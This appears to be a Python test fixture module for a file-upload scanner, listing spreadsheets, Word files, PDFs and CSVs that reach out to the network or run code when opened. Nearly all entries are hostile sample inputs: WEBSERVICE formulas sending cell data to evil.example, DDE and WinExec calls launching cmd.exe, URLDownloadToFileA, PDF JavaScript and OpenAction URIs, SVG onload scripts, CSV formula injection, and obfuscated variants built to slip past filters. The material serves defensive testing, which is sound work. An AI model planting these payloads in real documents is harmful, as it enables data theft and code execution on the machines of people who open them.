"""Files that fetch something from elsewhere, or send it there, once they are opened."""

from __future__ import annotations

import zlib

from tests.files.uploads import (
    csv,
    document,
    pdf,
    relation,
    workbook,
)

XML = b'<?xml version="1.0"?>'


def _packed(*objects: bytes, kind: bytes = b"/Type /ObjStm", catalogue: bytes = b"") -> bytes:
    """A PDF with objects, from number 20 on, packed into a stream as programs do it."""
    numbers, place = [], 0
    for number, each in enumerate(objects, start=20):
        numbers.append(b"%d %d" % (number, place))
        place += len(each) + 1
    head = b" ".join(numbers) + b" "
    body = zlib.compress(head + b" ".join(objects))
    about = b"%s /N %d /First %d /Filter /FlateDecode /Length %d" % (
        kind,
        len(objects),
        len(head),
        len(body),
    )
    stream = b"9 0 obj\n<< " + about + b" >>\nstream\n" + body + b"\nendstream\nendobj\n"
    return pdf(catalogue).replace(b"trailer", stream + b"trailer")


def sheet(inside: bytes) -> bytes:
    return workbook(xl__worksheets__sheet1_dot_xml=b"<worksheet>" + inside + b"</worksheet>")


def formula(text: str) -> bytes:
    return sheet(f"<c><f>{text}</f></c>".encode())


def _drawing(inside: bytes, attributes: bytes = b"") -> bytes:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" ' + attributes + b">" + inside + b"</svg>"
    return document(word__media__image1_dot_svg=svg)


# What fetches something, or sends it, as soon as somebody opens the file.
REACHES_OUT = {
    **{
        f"a formula: {text}": ("r.xlsx", formula(text))
        for text in (
            'WEBSERVICE("http://evil.example/?"&amp;A1)',
            '_xlfn.WEBSERVICE("http://evil.example")',
            'webservice("http://evil.example")',
            'WebService   ("http://evil.example")',
            'WEB<!-- -->SERVICE("http://evil.example")',
            'WEB<![CDATA[SERVICE]]>("http://evil.example")',
            '&#87;EBSERVICE("http://evil.example")',
            'IF(A1="(",WEBSERVICE("http://evil.example"),"")',
            """'it "is"'!A1&amp;WEBSERVICE("http://evil.example")""",
            'T[[#All],[a"b]]&amp;WEBSERVICE("http://evil.example/")&amp;"x"',
            'HYPERLINK("http://evil.example","Click")',
            'hyperlink ("http://evil.example","Click")',
            '_xlfn.IMAGE("http://evil.example/a.png")',
            'FILTERXML(A1,"//a")',
            'IMPORTXML("http://evil.example","//a")',
            'IMPORTDATA("http://evil.example")',
            'IMPORTRANGE("http://evil.example","A1")',
            'RTD("evil.server",,"a")',
            'DDE("cmd","/C calc","A0")',
            'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)',
            'REGISTER("kernel32","WinExec","JCJ")',
            'REGISTER.ID("kernel32","WinExec")',
            'EXEC("calc.exe")',
            'CUBEVALUE("evil","[a]")',
            'SQL.REQUEST("DSN=evil")',
            '_xll.EVIL("a")',
            "MAP(A1:A2,_xleta.WEBSERVICE)",
            "MSEXCEL|'..\\..\\cmd.exe /c calc'!A0",
            "'C:\\evil\\[book.xlsx]Sheet1'!A1",
            "'http://evil.example/[book.xlsx]Sheet1'!A1",
            "[1]Sheet1!A1",
            "'[1]Sheet 1'!A1",
        )
    },
    "a name that fetches": (
        "r.xlsx",
        workbook(
            xl__names_dot_xml=b"<a><definedName name='x'>WEBSERVICE(\"http://e\")</definedName></a>"
        ),
    ),
    "a format that fetches": (
        "r.xlsx",
        sheet(b"<conditionalFormatting><formula>WEBSERVICE(A1)</formula></conditionalFormatting>"),
    ),
    "a validation that fetches": (
        "r.xlsx",
        sheet(b"<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>"),
    ),
    "a validation of later versions that fetches": (
        "r.xlsx",
        sheet(b"<x:f xmlns:x='urn:x'>WEBSERVICE(A1)</x:f>"),
    ),
    "a chart that fetches": (
        "r.xlsx",
        workbook(
            xl__charts__chart1_dot_xml=b"<c:a xmlns:c='urn:c'><c:f>WEBSERVICE(A1)</c:f></c:a>"
        ),
    ),
    "a box that fetches": (
        "r.xlsx",
        workbook(xl__drawings__drawing1_dot_xml=b"<sp textlink='WEBSERVICE(A1)'/>"),
    ),
    "a sheet under another name that fetches": (
        "r.xlsx",
        workbook(xl__worksheets__sheet1_dot_txt=b"<c><f>WEBSERVICE(A1)</f></c>"),
    ),
    "a sheet in UTF-16 that fetches": (
        "r.xlsx",
        workbook(xl__sheet_dot_dat="<c><f>WEBSERVICE(A1)</f></c>".encode("utf-16")),
    ),
    "a connection": (
        "r.xlsx",
        workbook(xl__connections_dot_xml=b"<connections><connection/></connections>"),
    ),
    "a connection under another name": (
        "r.xlsx",
        workbook(xl__other_dot_xml=b"<connections><connection/></connections>"),
    ),
    "a query": ("r.xlsx", workbook(xl__queryTables__queryTable1_dot_xml=b"<queryTable/>")),
    "a query of later versions": (
        "r.xlsx",
        workbook(customXml__item1_dot_xml=b"<DataMashup>UEsDBA==</DataMashup>"),
    ),
    "a macro behind a picture": (
        "r.xlsx",
        workbook(xl__drawings__drawing1_dot_xml=b"<pic macro='[0]!Evil'/>"),
    ),
    "a script behind a picture": (
        "r.xlsx",
        workbook(
            xl__drawings___rels__drawing1_dot_xml_dot_rels=relation(
                "hyperlink", "java&#10;script:x()"
            )
        ),
    ),
    "a script behind a picture that says it is inside": (
        "r.xlsx",
        workbook(
            xl__drawings___rels__drawing1_dot_xml_dot_rels=relation(
                "hyperlink", "javascript:x()", mode="Internal"
            )
        ),
    ),
    "a program behind a picture": (
        "r.docx",
        document(word__a_dot_xml=b"<hlinkClick action='ppaction://program?a'/>"),
    ),
    "a script in a shape": (
        "r.docx",
        document(word__a_dot_vml=b"<xml><shape href='JavaScript:x()'/></xml>"),
    ),
    "a document type in any part": (
        "r.docx",
        document(customXml__item1_dot_xml=XML + b"<!DOCTYPE x><x/>"),
    ),
    "a document type in a part of another name": (
        "r.docx",
        document(
            word__media__image1_dot_txt=b"  " + XML[:0] + b"<!DOCTYPE x SYSTEM 'http://e'><x/>"
        ),
    ),
    "a script in a drawing": ("r.docx", _drawing(b"<script>x()</script>")),
    "a script in a drawing under a prefix": (
        "r.docx",
        document(
            word__media__a_dot_svg=b"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg>"
        ),
    ),
    "a drawing that runs as it loads": ("r.docx", _drawing(b"", b"onload='x()'")),
    "a drawing with a page in it": ("r.docx", _drawing(b"<foreignObject/>")),
    "a drawing from elsewhere": ("r.docx", _drawing(b"<image href='http://evil.example/a.png'/>")),
    "a drawing with a style from elsewhere": (
        "r.docx",
        _drawing(b"<style>@import 'http://evil.example/a.css'</style>"),
    ),
    "an object of another program": ("r.docx", document(word__a_dot_xml=b"<o><OLEObject/></o>")),
    "a page in a document": ("r.docx", document(word__a_dot_xml=b"<o><altChunk/></o>")),
    "a letter for many": ("r.docx", document(word__a_dot_xml=b"<o><mailMerge/></o>")),
    **{
        f"a field: {text}": (
            "r.docx",
            document(word__a_dot_xml=f"<a><instrText>{text}</instrText></a>".encode()),
        )
        for text in (
            'INCLUDEPICTURE "http://evil.example/a.png"',
            'includetext "\\\\\\\\evil.example\\\\a.docx"',
            "LINK Excel.Sheet.12 a.xlsx",
            "MACROBUTTON Evil Click",
            'HYPERLINK "javascript:x()"',
            'HYPERLINK "file://evil.example/a"',
        )
    },
    "a field in pieces": (
        "r.docx",
        document(
            word__a_dot_xml=b"<a><fldChar fldCharType='begin'/><instrText> DD</instrText>"
            b"<r/><instrText>EAUTO c:</instrText><fldChar fldCharType='end'/></a>"
        ),
    ),
    "a simple field": ("r.docx", document(word__a_dot_xml=b"<fldSimple instr='DDEAUTO c:'/>")),
    "a PDF that opens an address": (
        "r.pdf",
        pdf(b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
    ),
    "a PDF that opens an address of another object": (
        "r.pdf",
        pdf(b"/OpenAction 5 0 R >> endobj 5 0 obj << /S /URI /URI (http://evil.example)"),
    ),
    "a PDF that opens an address of an object that is packed": (
        "r.pdf",
        _packed(b"<< /S /URI /URI (http://evil.example) >>", catalogue=b"/OpenAction 20 0 R"),
    ),
    "a PDF that goes to a page and then to an address": (
        "r.pdf",
        pdf(b"/OpenAction << /S /GoTo /D [1 /Fit] /Next << /S /URI /URI (http://e) >> >>"),
    ),
    "a PDF that opens an address, spelt oddly": (
        "r.pdf",
        pdf(b"/Open#41ction << /S /#55RI /URI (http://evil.example) >>"),
    ),
    "a PDF with actions of its own": ("r.pdf", pdf(b"/AA << /O << /S /URI /URI (http://e) >> >>")),
    "a PDF with actions, packed": ("r.pdf", _packed(b"<< /AA << /O 3 0 R >> >>")),
    "a PDF with a script, packed": ("r.pdf", _packed(b"1", b"<< /S /JavaScript /JS 5 0 R >>")),
    "a PDF with a script, packed and spelt oddly": (
        "r.pdf",
        _packed(b"<< /S /Java#53cript /J#53 5 0 R >>", kind=b"/Type /Obj#53tm"),
    ),
    "a PDF with a script, packed without saying so": (
        "r.pdf",
        _packed(b"<< /S /JavaScript /JS 5 0 R >>", kind=b"/Type 7 0 R"),
    ),
    "a PDF with a script in the text of another object": (
        "r.pdf",
        pdf(b"/T ( 5 0 obj << /S /JavaScript /JS (x) >> endobj )"),
    ),
    "a PDF with a script in a stream": (
        "r.pdf",
        pdf(b"/A 1 >>\nstream\n5 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream\n<<"),
    ),
    "a PDF with a script behind a remark": (
        "r.pdf",
        pdf(b">> endobj 5 %a\n 0 %b\n obj%c\n<< /S /JavaScript /JS (x)"),
    ),
    "a PDF with a form of another kind": ("r.pdf", pdf(b"/AcroForm << /XFA 5 0 R >>")),
    "a PDF that carries a file, packed": ("r.pdf", _packed(b"<< /EF << /F 5 0 R >> >>")),
    "a cell that fetches": ("r.csv", csv("URN,Name", '1,"=WEBSERVICE(""http://evil.example"")"')),
    "a cell that fetches, alone": ("r.csv", csv("Name", "=webservice (A1)")),
    "a cell that links": ("r.csv", csv("URN;Name", "1;+HYPERLINK(A1)")),
    "a cell that imports": ("r.csv", csv("URN\tName", "1\t@IMPORTXML(A1)")),
}
